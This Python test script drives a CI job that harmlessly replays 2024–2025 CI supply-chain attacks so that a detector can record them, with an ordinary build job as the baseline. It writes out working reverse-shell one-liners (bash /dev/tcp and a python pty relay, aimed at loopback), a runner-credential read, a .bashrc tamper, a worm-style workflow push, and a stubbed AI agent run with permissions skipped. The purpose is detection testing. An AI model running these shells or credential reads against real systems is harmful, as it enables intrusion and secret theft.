#!/usr/bin/env python3
"""The jobs ci_attacks_e2e.py records: `attack` replays one act per class of the 2024-2025 CI
attacks, harmlessly; `clean` is an ordinary build job. usage: ci_attacks_job.py WORK attack|clean
HOME is WORK/home (set by the driver); WORK/fake holds stand-ins for tools that are absent or must
not run for real (claude, trufflehog, gitleaks, iptables are /bin/true under those names; npm is a
shell script standing for a package install that runs a dependency's lifecycle script).
What the driver needs to know goes to WORK/facts-MODE.json; one line per act is printed.

attack:
- reverse-shell: `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` against a listener of this job on
  loopback, which sends `echo`/`exit` and reads the shell's answer
- runner-credential-read: `cat WORK/actions-runner/.credentials` (a scratch file)
- ai-agent-unsafe, secret-scan-outside-checkout: `npm install` whose lifecycle script runs
  `claude --dangerously-skip-permissions` and `trufflehog filesystem /` (both stand-ins)
- shell-startup-write: a comment appended to $HOME/.bashrc (the scratch HOME)
- workflow-file-write: .github/workflows/shai-hulud-workflow.yml written into the checkout,
  committed and pushed to a bare repository on disk
- egress-tamper: `iptables -I OUTPUT -d 198.51.100.9 -j DROP` (the stand-in)
relay: a python whose stdio is dup2'd onto a connection to our listener runs `pty.spawn("/bin/sh")`:
the shell's stdin is a terminal, relayed to the network by its parent (reverse-shell, relayed form)
clean: make + run a C program, git commit, npm ci with an agent in read-only use, the lint step
`gitleaks detect --source .` over the checkout, `iptables -L`, `ip route show`, a clone."""
import json
import os
import socket
import subprocess
import sys
import threading

work, mode = sys.argv[1], sys.argv[2]
fake, home = os.path.join(work, "fake"), os.environ["HOME"]
checkout = os.path.join(work, mode, "r", "r")  # like _work/<repo>/<repo>
facts = {"pid": os.getpid(), "checkout": checkout}
GIT = ["git", "-c", "user.name=ci", "-c", "user.email=ci@example.test", "-c", "init.defaultBranch=main"]


def run(argv, **kw):
    r = subprocess.run(argv, capture_output=True, text=True, timeout=60, **kw)
    print(f"{' '.join(argv)[:90]}: exit {r.returncode}", flush=True)
    if r.returncode != 0:
        sys.exit(f"{argv} failed: {r.stderr[-400:]}")
    return r


os.makedirs(checkout)
run(GIT + ["init", "-q", checkout])

def listen(commands):
    """A listener on loopback that sends `commands` to whoever connects and keeps the answer."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    answer = []

    def serve():
        conn, _ = listener.accept()
        with conn:
            conn.sendall(commands)
            conn.settimeout(10)
            data = b""
            while chunk := conn.recv(4096):
                data += chunk
            answer.append(data.decode(errors="replace"))

    t = threading.Thread(target=serve)
    t.start()
    return listener, t, answer


if mode == "relay":
    listener, t, answer = listen(b"echo relayed-$((6*7))\nexit\n")
    port = listener.getsockname()[1]
    code = ("import os,pty,socket;s=socket.create_connection(('127.0.0.1',%d));"
            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" % port)
    subprocess.run([sys.executable, "-c", code], timeout=20, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL)
    t.join(20)
    listener.close()
    facts["shell_port"] = port
    facts["shell_answered"] = "relayed-42" in "".join(answer)
    print("relayed shell answered:", facts["shell_answered"], flush=True)
elif mode == "attack":
    # reverse shell against our own listener on loopback
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    port = listener.getsockname()[1]
    answer = []

    def serve():
        conn, _ = listener.accept()
        with conn:
            conn.sendall(b"echo shell-answered-$((6*7))\nexit\n")
            conn.settimeout(10)
            data = b""
            while chunk := conn.recv(4096):
                data += chunk
            answer.append(data.decode(errors="replace"))

    t = threading.Thread(target=serve)
    t.start()
    subprocess.run(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"], timeout=20,
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    t.join(20)
    listener.close()
    facts["shell_port"] = port
    print("reverse shell answered:", "shell-answered-42" in "".join(answer), flush=True)
    facts["shell_answered"] = "shell-answered-42" in "".join(answer)

    facts["credentials"] = os.path.join(work, "actions-runner", ".credentials")
    run(["cat", facts["credentials"]])

    run([os.path.join(fake, "npm"), "install"], cwd=checkout)

    facts["bashrc"] = os.path.join(home, ".bashrc")
    run(["sh", "-c", f"echo '# appended by the jobtrail test' >> {facts['bashrc']}"])

    facts["workflow"] = os.path.join(checkout, ".github", "workflows", "shai-hulud-workflow.yml")
    os.makedirs(os.path.dirname(facts["workflow"]))
    # written by a process that exits before the push: its folded open is in the trail before the push
    run(["sh", "-c", f"printf 'on: push\\njobs: {{}}\\n' > {facts['workflow']}"])
    run(GIT + ["-C", checkout, "add", "."])
    run(GIT + ["-C", checkout, "commit", "-qm", "ci"])
    run(GIT + ["-C", checkout, "push", "-q", os.path.join(work, "remote.git"), "HEAD:refs/heads/shai-hulud"])

    run([os.path.join(fake, "iptables"), "-I", "OUTPUT", "-d", "198.51.100.9", "-j", "DROP"])
else:
    with open(os.path.join(checkout, "main.c"), "w") as f:
        f.write('#include <stdio.h>\nint main(void){puts("ok");return 0;}\n')
    with open(os.path.join(checkout, "Makefile"), "w") as f:
        f.write("all: app\napp: main.c\n\tcc -O1 -o app main.c\ntest: app\n\t./app\n")
    run(["make", "-s", "test"], cwd=checkout)
    run(GIT + ["-C", checkout, "add", "."])
    run(GIT + ["-C", checkout, "commit", "-qm", "init"])
    run([os.path.join(fake, "npm"), "ci"], cwd=checkout)
    run([os.path.join(fake, "gitleaks"), "detect", "--source", ".", "--no-banner"], cwd=checkout)
    run([os.path.join(fake, "gitleaks"), "detect"], cwd=os.path.join(checkout))
    run([os.path.join(fake, "iptables"), "-nvL", "OUTPUT"])
    run(["ip", "route", "show"])
    run(["cat", os.path.join(home, ".bashrc")])
    run(GIT + ["clone", "-q", os.path.join(work, "remote.git"), os.path.join(work, "clean", "clone")])

json.dump(facts, open(os.path.join(work, f"facts-{mode}.json"), "w"))
print("job done", flush=True)
